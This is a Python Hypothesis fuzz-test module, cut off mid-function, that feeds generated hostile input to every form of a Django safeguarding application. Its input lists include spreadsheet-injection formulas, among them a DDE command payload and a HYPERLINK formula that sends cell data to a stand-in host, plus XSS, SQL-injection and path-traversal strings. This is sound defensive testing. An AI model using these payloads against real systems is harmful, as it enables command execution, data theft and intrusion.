"""Hypothesis over every page's form (issue 11, "Bad input").

Every form class in ``joinedup.<app>.forms`` is found by walking the modules, and each is fed generated
answers: arbitrary text, spreadsheet formulas, control characters, very long text, any Unicode, answers of the
wrong kind, fields left out, dates out of range, several values for one field and ids of nothing (or of
records the user may not choose). For each example:

- validating never raises: the form answers valid or not;
- every error is beside a field of the form (or at the top), with words;
- formula text is never in what the form accepts, and formula text in an answer is refused beside its field;
- what a valid form accepts keeps the form's own rules (required, lengths, choices, the records it offers,
  its cross-field rules).

Examples per form: the ``fuzz`` Hypothesis profile (``conftest.py``), ``JOINEDUP_FUZZ_EXAMPLES`` (1000 by
default; ``make fuzz`` runs more). The objects a form needs (a user, a child, an agency) are made with the
project's factories once per form, not per example.
"""

import datetime as dt
import importlib
import inspect
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

import pytest
from django import forms
from django.apps import apps
from django.core.exceptions import NON_FIELD_ERRORS, SuspiciousFileOperation, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.utils import validate_file_name
from django.db import models
from django.http import QueryDict
from django.utils import timezone
from django.utils.datastructures import MultiValueDict
from hypothesis import given, settings
from hypothesis import strategies as st

from joinedup.accounts.models import RoleCode
from joinedup.accounts.tests.factories import UserFactory
from joinedup.agencies.models import Agency, Team
from joinedup.agencies.tests.factories import AgencyFactory, TeamFactory
from joinedup.children.models import Address, ChronologyEntry, DatePrecision, Relative, RelativeKind
from joinedup.children.tests.factories import ChildFactory, ChronologyEntryFactory
from joinedup.disruption.tests.factories import AdultOfConcernFactory
from joinedup.documents.selectors import Item
from joinedup.imports.models import RejectedRow
from joinedup.mace.models import AgendaItem
from joinedup.mace.tests.factories import AgendaItemFactory, MeetingFactory
from joinedup.screening.models import Answer, AnswerKind, Question
from joinedup.spreadsheet import is_formula_answer
from joinedup.web.forms import FormulaRefusingForm

FUZZ = settings.get_profile("fuzz")


# --- Finding every form -----------------------------------------------------------------------------------


def _forms_modules() -> list[str]:
    """The forms module of every installed joinedup app (an app not installed serves no page)."""
    names = []
    for app in apps.get_app_configs():
        if app.name.startswith("joinedup.") and importlib.util.find_spec(f"{app.name}.forms") is not None:
            names.append(f"{app.name}.forms")
    return sorted(names)


def _form_classes() -> list[type[forms.BaseForm]]:
    found = []
    for name in _forms_modules():
        module = importlib.import_module(name)
        for _, value in inspect.getmembers(module, inspect.isclass):
            if issubclass(value, forms.BaseForm) and value.__module__ == name:
                found.append(value)
    return sorted(found, key=_name)


def _name(form_class: type) -> str:
    return f"{form_class.__module__.removeprefix('joinedup.').removesuffix('.forms')}.{form_class.__qualname__}"


# --- The objects forms are built with, made once per form ---------------------------------------------------


def _frontdoor_levels():  # type: ignore[no-untyped-def]
    from joinedup.frontdoor.models import ThresholdLevel
    from joinedup.frontdoor.thresholds import threshold_seed

    return ThresholdLevel.objects.filter(document=threshold_seed())


def _context_places() -> Any:
    from joinedup.places.models import Place

    if not Place.objects.exists():
        Place.objects.create(name="Station Hotel", postcode="WB1 1AA", kind="hotel")
    return Place.objects.all()


def _context_children(world: "World") -> Any:
    from joinedup.children.models import Child

    return Child.objects.filter(pk__in=[world.child.pk, world.bare_child.pk])


def _context_partners() -> Any:
    from joinedup.contextual.models import Partner

    if not Partner.objects.exists():
        Partner.objects.create(name="Wealdbridge Council licensing team", kind="licensing")
    return Partner.objects.all()


class World:
    """Records made with the project's factories, each only when a form first asks for it."""

    @cached_property
    def agency(self):
        return AgencyFactory.create()

    @cached_property
    def other_agency(self):
        return AgencyFactory.create()

    @cached_property
    def practitioner(self):
        TeamFactory.create(agency=self.agency)
        TeamFactory.create(agency=self.other_agency)
        return UserFactory.create(agency=self.agency)

    @cached_property
    def manager(self):
        return UserFactory.create(agency=self.agency, roles=[RoleCode.MANAGER])

    @cached_property
    def outsider(self):
        """A manager of another agency: never offered as an approver to the practitioner."""
        return UserFactory.create(agency=self.other_agency, roles=[RoleCode.MANAGER])

    @cached_property
    def coordinator(self):
        return UserFactory.create(agency=self.other_agency, roles=[RoleCode.COORDINATOR])

    @cached_property
    def child(self):
        """A child whose record holds every detail, so that changing one needs a reason."""
        child = ChildFactory.create(
            owning_agency=self.agency,
            other_names="Robbie",
            nhs_number="9434765919",
            la_child_id="WB100012",
            police_ids="PNC1",
            ethnicity="an agency's own words",
            looked_after=True,
            legal_status="C2",
        )
        return child

    @cached_property
    def bare_child(self):
        """A child whose record holds little: a detail given for the first time needs no reason."""
        return ChildFactory.create(owning_agency=self.agency, date_of_birth=None, postcode="")

    @cached_property
    def entry(self):
        return ChronologyEntryFactory.create(child=self.child)

    @cached_property
    def adult(self):
        return AdultOfConcernFactory.create(owning_agency=self.agency)

    @cached_property
    def hidden_adult(self):
        """Another agency's adult, named in no concern the practitioner may see."""
        return AdultOfConcernFactory.create(owning_agency=self.other_agency)

    @cached_property
    def agenda_item(self):
        item = AgendaItemFactory.create(meeting=MeetingFactory.create(chair=self.coordinator))
        AgendaItemFactory.create()  # another meeting's item: an id the form must refuse
        return item

    def agenda(self):
        """One meeting's agenda (another meeting's item exists, and is not offered)."""
        return AgendaItem.objects.filter(meeting=self.agenda_item.meeting)

    def with_adults(self, user):
        """``user``, once an adult they may choose and one they may not exist."""
        self.adult, self.hidden_adult  # noqa: B018
        return user

    def staff(self):
        from joinedup.accounts.models import User

        self.practitioner, self.manager  # noqa: B018 - the agency's staff
        self.outsider  # noqa: B018 - exists, and is not among the staff offered
        return User.objects.filter(agency=self.agency)


@dataclass
class Case:
    """How to build one form: the keyword arguments of each way a page builds it, and the form's own rules,
    checked on what a valid form accepts."""

    variants: Callable[[World], list[dict[str, Any]]] = lambda world: [{}]
    rules: Callable[[forms.BaseForm], None] = lambda form: None
    # Fields that accept formula-like text on purpose (with why), so are not fuzzed for its refusal.
    formula_exempt: dict[str, str] = field(default_factory=dict)
    # How a page builds it bound to a submission (data and files None: unbound).
    build: Callable[..., forms.BaseForm] | None = None

    def make(self, form_class: type[forms.BaseForm], data: Any, files: Any, kwargs: dict[str, Any]) -> forms.BaseForm:
        if self.build is not None:
            return self.build(form_class, data, files, kwargs)
        if data is None:
            return form_class(**kwargs)
        return form_class(data, files, **kwargs)


def _named_someone(data: dict[str, Any]) -> None:
    assert data["person_name"].strip() or data["user"] is not None, "a participant with no name and no account"


def _interview_at_a_place(world: World) -> Any:
    """A recorded interview of the world's child at a hotel (offered), and another child's private address (never
    offered: only the places on the child's record that the user may see)."""
    from joinedup.missing.tests.factories import ReturnInterviewFactory
    from joinedup.places.models import Place, PlaceKind

    hotel = Place.objects.create(name="Station Hotel", postcode="WB1 1AA", kind=PlaceKind.HOTEL)
    Place.objects.create(name="14 Elmwood Crescent", postcode="WB3 2XY", kind=PlaceKind.PRIVATE_ADDRESS)
    return ReturnInterviewFactory.create(
        episode__child=world.child,
        owner=world.practitioner,
        completed_at=timezone.now() - dt.timedelta(hours=1),
        childs_words="I was at the hotel",
        place=hotel,
        place_name="Station Hotel",
    )


def _child_variants(world: World) -> list[dict[str, Any]]:
    return [{"child": world.child}, {"child": world.bare_child}]


def _details_rules(form: forms.BaseForm) -> None:
    if form.replaced():  # type: ignore[attr-defined]
        assert form.cleaned_data["reason"].strip(), "a detail the record holds was changed without a reason"


def _looked_after_rules(form: forms.BaseForm) -> None:
    assert not form.cleaned_data["looked_after"] or form.cleaned_data["legal_status"], "no legal status"
    _details_rules(form)


def _date_of_birth_rules(form: forms.BaseForm) -> None:
    day, month, year = (form.cleaned_data.get(name) for name in ("day", "month", "year"))
    assert not day or month, "a day without a month"
    assert not (day or month) or year, "a day or month without a year"
    changes = form.changes()  # type: ignore[attr-defined]
    if year:
        assert changes["date_of_birth"] <= timezone.localdate()
        assert changes["date_of_birth_precision"] in DatePrecision.values
    _details_rules(form)


def _data_pack_rules(form: forms.BaseForm) -> None:
    from joinedup.datapack.forms import EARLIEST_AS_AT, london_today

    assert EARLIEST_AS_AT <= form.cleaned_data["as_at"] <= london_today()


def _share_rules(form: forms.BaseForm) -> None:
    data = form.cleaned_data
    assert bool(data["shared_with_agency"]) != bool(data["shared_with_user"])


def _relative_rules(form: forms.BaseForm) -> None:
    relative = form.relative  # type: ignore[attr-defined]
    changed = relative is not None and any(
        value != getattr(relative, name)
        for name, value in form.changes().items()  # type: ignore[attr-defined]
    )
    assert not changed or form.cleaned_data["reason"].strip()


def _photo_rules(form: forms.BaseForm) -> None:
    photo = form.cleaned_data.get("photo")
    if photo:
        assert photo.size <= 5 * 1024 * 1024
        assert photo.read(8).startswith((b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"))


def _ssda903_upload_rules(form: forms.BaseForm) -> None:
    name, content = form.cleaned_data["file"]
    assert isinstance(name, str) and name and isinstance(content, bytes) and content


def _extract_upload_rules(form: forms.BaseForm) -> None:
    files = form.cleaned_data["extract"]
    assert files and all(isinstance(content, bytes) and content for content in files.values())


def _screening_rules(form: forms.BaseForm) -> None:
    answers = form.answers()  # type: ignore[attr-defined]
    assert list(answers) == ["AGE", "PARTNER", "GIFTS"]
    assert all(answers[code] is None or 0 <= answers[code] <= 99 for code in ("AGE", "PARTNER"))
    assert answers["GIFTS"] in ("", Answer.NO, Answer.YES)


def _training_attendance(world: World) -> list[dict[str, Any]]:
    """Staff and trainees to choose from (or none: the trainee field goes), an active course and a withdrawn one."""
    from joinedup.training.models import Trainee
    from joinedup.training.tests.factories import CourseFactory, TraineeFactory

    CourseFactory.create()
    CourseFactory.create(is_active=False)
    TraineeFactory.create()
    staff = world.staff()
    return [{"staff": staff, "trainees": Trainee.objects.all()}, {"staff": staff, "trainees": Trainee.objects.none()}]


def _filters_rules(form: forms.BaseForm) -> None:
    data = form.cleaned_data
    assert data["start"] <= data["end"] <= data["start"] + dt.timedelta(days=366 * 5)
    agency = data.get("agency") or form.fixed_agency  # type: ignore[attr-defined]
    assert data["team"] is None or agency is None or data["team"].agency_id == agency.pk


def _profile_period_rules(form: forms.BaseForm) -> None:
    start, end = form.cleaned_data["start"], form.cleaned_data["end"]
    assert start <= end and (end - start).days < 366, "a problem profile's period runs forwards, a year at most"


def _not_future(name: str, now: Callable[[], Any]) -> Callable[[forms.BaseForm], None]:
    def rules(form: forms.BaseForm) -> None:
        value: Any = form.cleaned_data.get(name)
        assert value is None or value <= now(), f"{name} is in the future"

    return rules


def _questions() -> list[Question]:
    return [
        Question(code="AGE", position=1, text="How old are you?", kind=AnswerKind.AGE),
        Question(code="PARTNER", position=2, text="How old is your partner?", kind=AnswerKind.AGE),
        Question(code="GIFTS", position=3, text="Have you been given gifts?", kind=AnswerKind.YES_NO),
    ]


def _rejected_row() -> RejectedRow:
    return RejectedRow(
        file_name="missing.csv",
        row_number=2,
        column="DOB",
        reason="DOB: not a date",
        raw={"CHILD": "WB100012", "DOB": "31/02/2011", "MISSING": "M", "(extra cells)": "x"},
    )


def _address(world: World) -> Address:
    return Address(
        child=world.child, address="1 High Street", postcode="WB1 2AB", lived_from=dt.date(2020, 1, 1), lived_to=None
    )


def _relative(world: World) -> Relative:
    return Relative(
        child=world.child, kind=RelativeKind.values[0], name="Sam Carer", relationship="aunt", phone="01632 960000"
    )


def _case_audit_questions() -> list[Any]:
    from joinedup.caseaudits.tests.factories import standard_tool

    return list(standard_tool().questions.all())


def _case_audit_rules(form: forms.BaseForm) -> None:
    for question in getattr(form, "questions", []):
        assert form.cleaned_data[f"grade_{question.code}"] in question.scale, "a grade off the question's scale"


def _tool_draft_rules(form: forms.BaseForm) -> None:
    specs = form.question_specs()  # type: ignore[attr-defined]
    assert specs, "a new version with no question"
    assert len({s.code for s in specs}) == len(specs), "two questions with one code"
    assert all(s.text and s.scale for s in specs), "a question without its text or its grades"


def _period_rules(form: forms.BaseForm) -> None:
    assert form.cleaned_data["start"] <= form.cleaned_data["end"], "a period that ends before it starts"


def _concerns_of(world: World) -> Any:
    from joinedup.concerns.models import Concern

    return Concern.objects.filter(child=world.child)


def _voice_say_rules(form: forms.BaseForm) -> None:
    limit = form.cleaned_data["professionals_limit"]
    assert limit is None or 1 <= limit <= 20, "a number of professionals outside 1 to 20"


def _voice_speak_rules(form: forms.BaseForm) -> None:
    from joinedup.voice.models import CONTACT_WHEN_MAX, MESSAGE_MAX

    assert len(form.cleaned_data["text"]) <= MESSAGE_MAX and len(form.cleaned_data["contact_when"]) <= CONTACT_WHEN_MAX
    assert form.cleaned_data["feeling"] in (None, 1, 2, 3, 4, 5)


def _plan_rules(form: forms.BaseForm) -> None:
    weeks = form.cleaned_data["review_every_weeks"]
    assert weeks is None or 1 <= weeks <= 52, "a review interval outside 1 to 52 weeks"


def _community_report_variants(world: World) -> list[dict[str, Any]]:
    from joinedup.community.models import WarningSign

    return [
        {},
        {"signs": WarningSign.objects.filter(applies_to="hotel")},
        {"signs": WarningSign.objects.filter(applies_to="general"), "public": True},
    ]


def _community_report_rules(form: forms.BaseForm) -> None:
    data = form.cleaned_data
    assert 0 < len(data["what_happened"]) <= 2000, "a report's text is required and at most 2,000 characters"
    assert data["happened_at"] <= timezone.now(), "a report of something that has not happened yet"


def _community_places() -> Any:
    from joinedup.places.models import Place

    if not Place.objects.exists():
        Place.objects.create(name="Station Hotel", kind="hotel", postcode="WB1 1AA")
    return Place.objects.all()


EVERY_FORM: dict[str, Case] = {
    "access.BreakGlassForm": Case(),
    "access.ReviewForm": Case(),
    "accounts.SignInForm": Case(
        formula_exempt={
            "username": "matched against accounts, never kept as an answer",
            "password": "a secret: any characters are allowed, and it is only ever hashed",
        }
    ),
    "accounts.TokenForm": Case(),
    "children.ChildForm": Case(rules=_not_future("date_of_birth", timezone.localdate)),
    "children.ChronologyEntryForm": Case(rules=_not_future("occurred_at", timezone.now)),
    "children.ShareForm": Case(
        variants=lambda w: [
            {"user": w.practitioner},
            {"user": w.practitioner, "entries": ChronologyEntry.objects.filter(pk=w.entry.pk)},
            {"user": w.manager},
        ],
        rules=_share_rules,
    ),
    "children.DetailsForm": Case(variants=_child_variants, rules=_details_rules),
    "children.NamesForm": Case(variants=_child_variants, rules=_details_rules),
    "children.DateOfBirthForm": Case(variants=_child_variants, rules=_date_of_birth_rules),
    "children.SexEthnicityForm": Case(variants=_child_variants, rules=_details_rules),
    "children.IdentifiersForm": Case(variants=_child_variants, rules=_details_rules),
    "children.LookedAfterForm": Case(
        variants=_child_variants,
        rules=_looked_after_rules,
    ),
    "children.KeyWorkerForm": Case(variants=_child_variants, rules=_details_rules),
    "children.AddressForm": Case(variants=lambda w: [{}, {"address": _address(w)}]),
    "children.RelativeForm": Case(variants=lambda w: [{}, {"relative": _relative(w)}], rules=_relative_rules),
    "children.EndForm": Case(),
    "children.InvolvementOpenForm": Case(variants=lambda w: [{"user": w.practitioner}, {"user": w.coordinator}]),
    "children.InvolvementEndForm": Case(),
    "children.SettleForm": Case(
        variants=lambda w: [
            {"options": [("Robin", "Robin (on this record now)"), ("Robyn", "Robyn (POL)")]},
            {"options": []},
        ]
    ),
    "children.CorrectionForm": Case(),
    "children.ChronologyCorrectionForm": Case(),
    "children.ConcernCorrectionForm": Case(),
    "children.ContactCorrectionForm": Case(),
    "children.EpisodeCorrectionForm": Case(),
    "children.InterviewCorrectionForm": Case(
        variants=lambda w: [{}, {"user": w.practitioner, "item": _interview_at_a_place(w)}]
    ),
    "concerns.ConcernForm": Case(
        variants=lambda w: [
            {"user": w.with_adults(w.practitioner)},
            {"user": w.with_adults(w.coordinator)},
        ]
    ),
    "contacts.ContactAttemptForm": Case(),
    "disruption.AdultForm": Case(),
    "disruption.DisruptionForm": Case(),
    "documents.DocumentForm": Case(
        variants=lambda w: [
            {"items": []},
            {"items": [Item("concern", str(uuid.uuid4()), "A concern"), Item("entry", "12", "A note", "C")]},
        ]
    ),
    "imports.Ssda903UploadForm": Case(rules=_ssda903_upload_rules),
    "imports.ExtractUploadForm": Case(rules=_extract_upload_rules),
    "imports.RejectedRowForm": Case(variants=lambda w: [{"row": _rejected_row()}]),
    "imports.AnnexAForm": Case(),
    # The inspection data pack (joinedup.datapack): a date from 1 January 2000 to today; blank is today.
    "datapack.DataPackForm": Case(rules=_data_pack_rules),
    "linkage.DecisionForm": Case(),
    "places.DecisionForm": Case(),
    "linkage.UndoForm": Case(),
    "linkage.ConnectForm": Case(),
    "linkage.ConnectionDecisionForm": Case(
        variants=lambda w: [{"children": [w.child, w.bare_child]}, {"children": []}]
    ),
    "mace.MeetingForm": Case(variants=lambda w: [{"staff": w.staff()}]),
    "mace.AgendaItemForm": Case(variants=lambda w: [{}] if w.adult else []),
    "mace.AttendanceForm": Case(variants=lambda w: [{"staff": w.staff()}]),
    "mace.DecisionForm": Case(
        variants=lambda w: [{"agenda": AgendaItem.objects.filter(meeting=w.agenda_item.meeting)}]
    ),
    "mace.ActionForm": Case(
        variants=lambda w: [{"agenda": AgendaItem.objects.filter(meeting=w.agenda_item.meeting), "staff": w.staff()}]
    ),
    "mace.MinutesForm": Case(variants=lambda w: [{}] if w.other_agency else []),
    "missing.ReportForm": Case(variants=lambda w: [{"grader": True}, {"grader": False}]),
    "missing.RegradeForm": Case(),
    "missing.FoundForm": Case(),
    "missing.ReturnForm": Case(variants=lambda w: [{}, {"owners": w.staff()}]),
    "missing.OfferForm": Case(),
    "missing.InterviewForm": Case(),
    "missing.ActionForm": Case(variants=lambda w: [{}, {"owners": w.staff()}]),
    "missing.PhilomenaForm": Case(rules=_photo_rules),
    "tasks.ReassignForm": Case(variants=lambda w: [{"people": w.staff(), "teams": Team.objects.all()}]),
    "oversight.GoalForm": Case(variants=lambda w: [{}] if w.agency else []),
    "oversight.RetireForm": Case(),
    "oversight.FiltersForm": Case(
        # Read from the query string, over the defaults; no files.
        build=lambda form_class, data, files, kwargs: form_class(QueryDict() if data is None else data, **kwargs),
        variants=lambda w: [{"user": w.coordinator}, {"user": w.manager}] if w.practitioner else [],
        rules=_filters_rules,
    ),
    "profiles.GenerateForm": Case(rules=_profile_period_rules),
    "rights.SubjectAccessForm": Case(),
    "screening.ScreeningForm": Case(variants=lambda w: [{"questions": _questions()}], rules=_screening_rules),
    "supervision.OversightNoteForm": Case(),
    "supervision.ChallengeForm": Case(
        variants=lambda w: [{}, {"agencies": Agency.objects.filter(pk=w.other_agency.pk) if w.agency else None}]
    ),
    "supervision.ResponseForm": Case(),
    # The front door (joinedup.frontdoor): the decision offers the levels of the seeded threshold document.
    "frontdoor.FindChildForm": Case(),
    "frontdoor.ContactForm": Case(variants=lambda w: [{}] if w.agency else []),
    "frontdoor.InformationRequestForm": Case(
        variants=lambda w: [{}, {"agencies": Agency.objects.filter(pk=w.other_agency.pk) if w.agency else None}]
    ),
    "frontdoor.AnswerForm": Case(),
    "frontdoor.DecisionForm": Case(variants=lambda w: [{}, {"levels": _frontdoor_levels()}]),
    "frontdoor.ToldForm": Case(),
    "supervision.EscalateForm": Case(),
    "supervision.ResolveForm": Case(),
    "training.CourseForm": Case(),
    "training.CourseChangeForm": Case(),
    "training.RequirementForm": Case(),
    "training.TraineeForm": Case(),
    "training.AttendanceForm": Case(variants=_training_attendance),
    "campaigns.CampaignForm": Case(),
    "campaigns.MaterialForm": Case(),
    "caseaudits.RoundForm": Case(),
    "caseaudits.AuditorsForm": Case(variants=lambda w: [{}, {"people": w.staff()} if w.agency else {}]),
    "caseaudits.CaseAuditForm": Case(
        variants=lambda w: [{}, {"questions": _case_audit_questions()}], rules=_case_audit_rules
    ),
    "caseaudits.LearningPointForm": Case(),
    # The agencies exist before the form offers them.
    "caseaudits.ActionForm": Case(variants=lambda w: [{}] if w.agency and w.other_agency else []),
    "caseaudits.PeriodForm": Case(rules=_period_rules),
    # The audit tool's new version (issue 12 leftovers), drafted from the standard tool's questions.
    "caseaudits.ToolDraftForm": Case(
        variants=lambda w: [{}, {"questions": _case_audit_questions()}], rules=_tool_draft_rules
    ),
    "profiles.ScheduleForm": Case(),
    # Police timeliness and victim care (joinedup.missing, joinedup.victims).
    "missing.AttendanceForm": Case(),
    "victims.InvestigationForm": Case(variants=lambda w: [{}, {"concerns": _concerns_of(w)}]),
    "victims.NeedsAssessmentForm": Case(),
    "victims.SupportOfferForm": Case(),
    "victims.VictimContactForm": Case(),
    "victims.ProsecutionSupportForm": Case(),
    "victims.OutcomeForm": Case(),
    # Children missing education (joinedup.education).
    "education.MissingEducationForm": Case(),
    "education.PartTimeForm": Case(),
    "education.SuspensionForm": Case(),
    "education.ExclusionForm": Case(),
    "education.HomeEducationForm": Case(),
    "education.CheckForm": Case(),
    "education.CloseForm": Case(),
    # The child's plan, closure and step-down (joinedup.plans).
    "plans.PlanForm": Case(variants=_child_variants, rules=_plan_rules),
    "plans.OutcomeForm": Case(),
    "plans.ActionForm": Case(variants=_child_variants),
    "plans.SafetyForm": Case(variants=_child_variants),
    "plans.ReviewForm": Case(),
    "plans.EndForm": Case(),
    "plans.CloseForm": Case(),
    # The child's say and speaking out (joinedup.voice). The child's own page takes the child's words as they are:
    # never refused for looking like a formula (the exports write no spreadsheet of them).
    "voice.ChildSayForm": Case(variants=_child_variants, rules=_voice_say_rules),
    "voice.SpeakForm": Case(
        rules=_voice_speak_rules,
        formula_exempt={
            "text": "a child's own words, taken as they are",
            "contact_when": "a child's own words, taken as they are",
        },
    ),
    # Contextual safeguarding (joinedup.contextual): the forms offer the places, children and partners given.
    "contextual.PlaceWorkForm": Case(variants=lambda w: [{"places": _context_places()}]),
    "contextual.GroupWorkForm": Case(variants=lambda w: [{"children": _context_children(w)}]),
    "contextual.MemberForm": Case(variants=lambda w: [{"children": _context_children(w)}]),
    "contextual.AssessmentForm": Case(),
    "contextual.PartnerForm": Case(),
    "contextual.ActionForm": Case(variants=lambda w: [{}, {"partners": _context_partners()}]),
    "contextual.ReviewForm": Case(),
    "contextual.CloseForm": Case(),
    # Strategy discussions and NRM referrals (joinedup.strategy): the forms offer staff, agencies and adults.
    "strategy.DiscussionForm": Case(variants=lambda w: [{}] if w.practitioner else []),
    "strategy.ParticipantForm": Case(
        variants=lambda w: [{}] if w.practitioner else [],
        rules=lambda form: _named_someone(form.cleaned_data),
    ),
    "strategy.ActionForm": Case(variants=lambda w: [{}] if w.practitioner else []),
    "strategy.MaceProposalForm": Case(),
    "strategy.DisruptionPlanForm": Case(variants=lambda w: [{}] if w.adult else []),
    "strategy.OutcomeForm": Case(),
    "strategy.NRMReferralForm": Case(variants=lambda w: [{}] if w.agency else []),
    "strategy.NRMDecisionForm": Case(),
    # The base of every form above: no fields of its own.
    "web.FormulaRefusingForm": Case(),
    # Registered businesses and community reporting (joinedup.community): the reporting page as a business's link
    # builds it (its kind's signs) and as the public page does (the general signs, and where it happened).
    "community.ReportForm": Case(variants=_community_report_variants, rules=_community_report_rules),
    "community.BusinessForm": Case(variants=lambda w: [{}, {"places": _community_places()}]),
    "community.VisitForm": Case(),
    "community.StaffForm": Case(),
    "community.ConcernFromReportForm": Case(),
    "community.CloseReportForm": Case(),
}


FORMS = {_name(form_class): form_class for form_class in _form_classes()}


def test_every_form_in_the_project_is_fuzzed():
    """A new form fails here until it has a Case above, so no page's form goes without fuzzing."""
    assert len(FORMS) >= 50, "the walk of joinedup.*.forms found too few forms"
    assert sorted(set(FORMS) - set(EVERY_FORM)) == [], "forms with no fuzz Case: add one to EVERY_FORM"
    assert sorted(set(EVERY_FORM) - set(FORMS)) == [], "Cases for forms that no longer exist"


def test_every_form_except_sign_in_refuses_formulas():
    """The forms that take answers derive from FormulaRefusingForm; only the sign-in forms do not, and the child's
    own speaking-out page, whose words are kept as the child wrote them (never refused for how they begin)."""
    plain = sorted(name for name, form_class in FORMS.items() if not issubclass(form_class, FormulaRefusingForm))
    assert plain == ["accounts.SignInForm", "accounts.TokenForm", "imports.Ssda903UploadForm", "voice.SpeakForm"]


# --- What is typed into the forms ---------------------------------------------------------------------------

FORMULAS = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
            "=1+1",
            "+SUM(A1)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            "  =A1",
            "\t=A1",
            "\r\n+cmd",
            "=cmd@example.org",
        ]
    ),
    st.builds(
        lambda sign, body: sign + body,
        st.sampled_from("=+-@"),
        st.text(alphabet=st.characters(categories=["L"]), min_size=1, max_size=12),
    ),
)
ODD = st.sampled_from(
    [
        "",
        " ",
        "\x00",
        "a\x00b",
        "\u202eevil",
        "\ufeff",
        "null",
        "None",
        "NaN",
        "inf",
        "-1",
        "0",
        "1e309",
        "1.5",
        "99999999999999999999999999",
        "9" * 5000,
        "[]",
        "{}",
        "true",
        "on",
        "٣",
        "²",
        "\uff12\uff10\uff12\uff14-\uff10\uff11-\uff10\uff11",  # 2024-01-01 in full-width digits
        "<script>alert(1)</script>",
        "' OR 1=1 --",
        "../../etc/passwd",
        "0000-00-00",
        "0001-01-01",
        "9999-12-31",
        "10000-01-01",
        "2024-02-30",
        "2025-03-30T01:30",
        "0001-01-01T00:00+14:00",
        "9999-12-31T23:59-12:00",
        "9999-12-31 23:59:59.999999",
        "31/02/2011",
        "2011-13-01",
    ]
)
HUGE = st.one_of(
    st.builds(lambda chunk, n: chunk * n, st.text(min_size=1, max_size=3), st.integers(1_000, 100_000)),
    # A near-formula of digits: the kind of text a backtracking pattern takes a long time over.
    st.builds(lambda n, end: "-" + "1" * n + end, st.integers(1_000, 200_000), st.sampled_from(["", "a", "+", " "])),
)
CONTROL = st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), max_size=20)
IDS = st.one_of(
    st.uuids().map(str), st.integers().map(str), st.integers(min_value=0, max_value=10**6).map(str), st.text(max_size=8)
)
DATES = st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31))
MOMENTS = st.datetimes(min_value=dt.datetime(1, 1, 2), max_value=dt.datetime(9999, 12, 30))  # noqa: DTZ001
HOSTILE = st.one_of(
    st.text(max_size=30),
    FORMULAS,
    ODD,
    CONTROL,
    HUGE,
    IDS,
    st.floats().map(repr),
    DATES.map(lambda d: d.strftime("%d/%m/%Y")),
    DATES.map(dt.date.isoformat),
    MOMENTS.map(lambda m: m.isoformat(timespec="minutes")),
    MOMENTS.map(lambda m: m.isoformat() + "+05:30"),
)
PLAIN = st.characters(categories=["L", "N", "Zs"]) | st.sampled_from(list(".,;'()/&!?"))


def _plain_text(max_size: int, required: bool) -> st.SearchStrategy[str]:
    text = st.text(alphabet=PLAIN, min_size=1, max_size=max_size).filter(
        lambda s: bool(s.strip()) and not is_formula_answer(s)
    )
    return text if required else st.one_of(st.just(""), text)


def _choice_values(choices: Any) -> list[str]:
    values: list[str] = []
    for value, label in choices:
        if isinstance(label, list | tuple):
            values.extend(str(v) for v, _ in label)
        else:
            values.append(str(value))
    return values


def _sendable(name: str) -> bool:
    """A file name an upload can carry: Django's request parser keeps only the last part of a path and drops a
    file with no name left (validate_file_name refuses what it would have dropped)."""
    try:
        validate_file_name(name)
    except SuspiciousFileOperation:
        return False
    return True


# Documents as a person would upload them, and files that are not.
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
CSV = b"CHILD,DOB,MISSING,MIS_START,MIS_END\r\nWB100012,05/04/2011,M,01/03/2025,\r\n"
FILE_NAMES = st.one_of(
    st.sampled_from(["photo.jpg", "letter.pdf", "missing.csv", "people.csv", "events.csv", "extract.zip"]),
    st.text(min_size=1, max_size=300),
    st.sampled_from(["../../etc/passwd", "C:\\fakepath\\people.csv", "a\x00.csv", " .pdf", "\u202egpj.exe"]),
).filter(_sendable)
FILE_BYTES = st.one_of(
    st.sampled_from([JPEG, PNG, PDF, CSV, b"", b"\x00", JPEG[:3], b"PK\x03\x04" + b"\x00" * 20]),
    st.binary(max_size=300),
    st.builds(lambda head, n: head + b"\x00" * n, st.sampled_from([JPEG, PNG]), st.integers(1, 6 * 1024 * 1024)),
)


def _uploads(good: bool) -> st.SearchStrategy[SimpleUploadedFile]:
    if good:
        return st.builds(
            SimpleUploadedFile,
            st.sampled_from(["photo.jpg", "letter.pdf", "people.csv"]),
            st.sampled_from([JPEG, PNG, PDF, CSV]),
        )
    return st.builds(SimpleUploadedFile, FILE_NAMES, FILE_BYTES, st.sampled_from(["", "image/jpeg", "text/csv"]))


def _good(form_field: Any, pks: list[str]) -> st.SearchStrategy[list[str]]:
    """Answers a person filling the form in would give: right kind, within the field's limits (even so, some
    are refused by the form's own rules)."""
    required = form_field.required
    one: st.SearchStrategy[str]
    if isinstance(form_field, forms.ModelMultipleChoiceField):
        return st.lists(st.sampled_from(pks), max_size=3, unique=True) if pks else st.just([])
    if isinstance(form_field, forms.MultipleChoiceField):
        values = _choice_values(form_field.choices)
        return st.lists(st.sampled_from(values), max_size=3, unique=True) if values else st.just([])
    if isinstance(form_field, forms.ModelChoiceField):
        one = st.sampled_from([*pks, ""]) if pks else st.just("")
    elif isinstance(form_field, forms.ChoiceField):
        values = _choice_values(form_field.choices)
        one = st.sampled_from(values) if values else st.just("")
    elif isinstance(form_field, forms.BooleanField):
        one = st.sampled_from(["on", "true", "", "false"])
    elif isinstance(form_field, forms.IntegerField):
        low: Any = form_field.min_value if form_field.min_value is not None else -(10**6)
        high: Any = form_field.max_value if form_field.max_value is not None else 3000
        one = st.integers(low, high).map(str)
    elif isinstance(form_field, forms.DecimalField):
        places = form_field.decimal_places if form_field.decimal_places is not None else 2
        top = 10 ** ((form_field.max_digits or 10) - places) - 1
        least: Any = form_field.min_value if form_field.min_value is not None else -top
        most: Any = form_field.max_value if form_field.max_value is not None else top
